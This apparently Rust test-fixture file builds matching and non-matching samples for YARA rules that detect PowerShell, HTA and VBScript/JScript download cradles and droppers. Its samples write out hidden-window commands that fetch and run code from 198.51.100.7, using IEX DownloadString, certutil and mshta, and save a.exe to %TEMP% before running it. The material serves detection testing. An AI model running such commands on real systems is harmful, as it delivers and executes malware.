//! `cradles.yar`: scripts that fetch the next stage and run it out of sight.

use super::build::{base64, noise, utf16};
use super::{Sample, hit, miss, plain};

const HIDDEN: &str = "Downloader.PowerShell.HiddenCradle";
const ENCODED: &str = "Downloader.PowerShell.EncodedCradle";
const HTA: &str = "Downloader.HTA.Cradle";
const DROPPER: &str = "Downloader.Script.HiddenDropper";
const SCRIPT: &str = "Heur.Script.Encoded";

pub(super) fn samples() -> Vec<Sample> {
    [hidden(), encoded(), hta(), dropper(), script()].into_iter().flatten().collect()
}

fn hidden() -> Vec<Sample> {
    let command = plain(
        "powers·hell -nop -w hid·den -c \"IE·X (New-Object Net.WebClient).Download·String('http://198.51.100.7/a')\"",
    );
    let piped = plain(
        "powers·hell.exe -NoProfile -WindowStyle Hid·den -Command \"iw·r http://198.51.100.7/a | ie·x\"",
    );
    vec![
        hit(HIDDEN, "the whole file", command.clone()),
        hit(HIDDEN, "batch file", format!("@echo off\r\n{command}\r\nexit\r\n")),
        hit(HIDDEN, "piped", format!("@echo off\r\nstart /b {piped}\r\n")),
        hit(
            HIDDEN,
            "passed on by a script",
            format!(
                "Set w = CreateObject(\"WScript.Shell\")\r\nw.Run \"{}\", 0\r\n",
                command.replace('"', "'")
            ),
        ),
        hit(HIDDEN, "UTF-16", utf16(&format!("\u{FEFF}@echo off\r\n{command}\r\n"))),
        miss(HIDDEN, "documentation", format!("Attackers often use `{command}` for this.\n")),
        miss(
            HIDDEN,
            "installer in sight",
            plain(
                "@echo off\r\n\
                 powershell -NoProfile -Command \"ie·x ((New-Object Net.WebClient).Download·String('https://example.org/install.ps1'))\"\r\n",
            ),
        ),
        miss(
            HIDDEN,
            "hidden, nothing fetched",
            "@echo off\r\npowershell -WindowStyle Hidden -File backup.ps1 -Url https://example.org\r\n",
        ),
    ]
}

fn encoded() -> Vec<Sample> {
    let cradle = utf16(&plain(
        "$c = New-Object Net.Web·Client; IE·X $c.Download·String('http://198.51.100.7/a')",
    ));
    let lower =
        utf16(&plain("ie·x (new-object net.web·client).download·string('http://198.51.100.7/a')"));
    let deploy = utf16(
        "Import-Module ServerManager; Install-WindowsFeature Web-Server; Restart-Service W3SVC -Force",
    );
    vec![
        hit(ENCODED, "batch file", format!("@powershell -nop -enc {}\r\n", base64(&cradle))),
        hit(
            ENCODED,
            "long flag, lower case",
            format!("powershell -EncodedCommand {}", base64(&lower)),
        ),
        hit(ENCODED, "UTF-16", utf16(&format!("powershell.exe -e {}", base64(&cradle)))),
        miss(ENCODED, "deployment", format!("powershell -EncodedCommand {}\r\n", base64(&deploy))),
        miss(ENCODED, "download without the flag", format!("{}\n", base64(&cradle))),
        miss(
            ENCODED,
            "clear text",
            plain("powershell -enc is often used with IE·X and Net.Web·Client.Download·String.\n"),
        ),
    ]
}

fn hta() -> Vec<Sample> {
    let object = plain("Set s = Create·Object(\"WScr·ipt.Shell\")");
    let script = plain("var s = new Active·XObject('WScr·ipt.Shell');");
    vec![
        hit(
            HTA,
            "VBScript",
            format!(
                "<html><script language=\"VBScript\">\n{object}\n{}\n</script></html>",
                plain(
                    "s.Ru·n \"powershell -c (New-Object Net.WebClient).Download·File('http://198.51.100.7/a','a')\", 0"
                )
            ),
        ),
        hit(
            HTA,
            "JScript",
            format!(
                "<script>{script}\n{}</script>",
                plain("s.Ru·n('cert·util -urlc·ache -f http://198.51.100.7/a a', 0);")
            ),
        ),
        hit(
            HTA,
            "application",
            format!(
                "<HTA:APPLICATION ID=\"x\">\n<script>{script} {}</script>",
                plain("s.Ex·ec(\"ms·hta http://198.51.100.7/b\");")
            ),
        ),
        miss(
            HTA,
            "administrator's tool",
            format!(
                "<hta:application id=\"x\">\n<script language=\"VBScript\">\n{object}\ns.Run \"cmd /c ipconfig /all\"\n</script>\n"
            ),
        ),
        miss(
            HTA,
            "article in HTML",
            plain(
                "<html><script src=\"a.js\"></script><pre>s.Ru·n &quot;cert·util -urlc·ache&quot; with WScr·ipt.Shell</pre></html>",
            ),
        ),
        miss(
            HTA,
            "script of no page",
            format!(
                "{object}\n{}\n",
                plain("s.Ru·n \"cert·util -urlc·ache -f http://198.51.100.7/a a\", 0")
            ),
        ),
    ]
}

fn dropper() -> Vec<Sample> {
    let vbs = plain(
        "Set x = CreateObject(\"MSXML2.XML·HTTP\")\r\nx.Op·en \"GET\", \"http://198.51.100.7/a\", False\r\nx.Send\r\n\
         Set d = CreateObject(\"ADO·DB.Stream\")\r\nd.Type = 1\r\nd.Open\r\nd.Write x.responseBody\r\nd.Save·ToFile p, 2\r\n",
    );
    let folder = plain(
        "p = CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TE·MP%\") & \"\\a.exe\"\r\n",
    );
    let js = plain(
        "var x = new ActiveXObject('WinHttp.WinHttp·Request.5.1');\nx.Op·en('GET', 'http://198.51.100.7/a', false);\nx.Send();\n\
         var d = new ActiveXObject('ADO·DB.Stream');\nvar p = f.GetSpecial·Folder(2) + '\\\\a.exe';\nd.Save·ToFile(p);\nw.Ru·n(p, 0, false);\n",
    );
    vec![
        hit(
            DROPPER,
            "VBScript",
            format!(
                "{folder}{vbs}CreateObject(\"WScript.Shell\").{}\r\n",
                plain("Ru·n p, 0, False")
            ),
        ),
        hit(DROPPER, "JScript", js),
        hit(
            DROPPER,
            "shell execute",
            format!("{folder}{vbs}a.{}\r\n", plain("Shell·Execute p, \"\", \"\", \"open\", 0")),
        ),
        miss(DROPPER, "download only", format!("{folder}{vbs}WScript.Echo \"Saved\"\r\n")),
        miss(
            DROPPER,
            "installer in sight",
            format!("{folder}{vbs}w.Run \"msiexec /i \" & p, 1, True\r\n"),
        ),
        miss(
            DROPPER,
            "list of names",
            plain("ADO·DB.Stream\nMSXML2.XML·HTTP\nWScript.Shell\n%TEMP%\n.Save·ToFile\n.Run\n"),
        ),
    ]
}

fn script() -> Vec<Sample> {
    let body: String = noise(80).iter().map(|byte| char::from(b'A' + byte % 26)).collect();
    let encoded = format!("{}UwAAAA==\x7F{body}EhgAAA=={}", plain("#@·~^"), plain("^#·~@"));
    vec![
        hit(SCRIPT, "a .vbe file", encoded.clone()),
        hit(
            SCRIPT,
            "in a page",
            format!("<html><script language=\"VBScript.Encode\">{encoded}</script></html>"),
        ),
        hit(SCRIPT, "behind a byte order mark", format!("\u{FEFF}{encoded}")),
        miss(
            SCRIPT,
            "decoder's source",
            format!("BEGIN = \"{}\"\nEND = \"{}\"\n", plain("#@·~^"), plain("^#·~@")),
        ),
        miss(SCRIPT, "quoted in a text", format!("An encoded script looks like this: {encoded}\n")),
        miss(SCRIPT, "beginning only", plain("#@·~^UwAAAA==abcdef")),
    ]
}
